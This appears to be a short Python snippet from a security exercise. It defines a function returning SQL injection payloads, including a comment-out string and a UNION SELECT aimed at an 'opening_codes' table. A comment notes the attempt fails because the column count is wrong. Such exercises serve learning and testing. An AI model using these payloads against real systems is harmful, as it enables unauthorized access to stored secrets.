# fails: ex1a-tests-codes
# why: asks for one column where the page has two
def payloads() -> dict:
    return {"name": "warden')) --", "pin": 'x', "place": "x' UNION SELECT code FROM opening_codes --"}
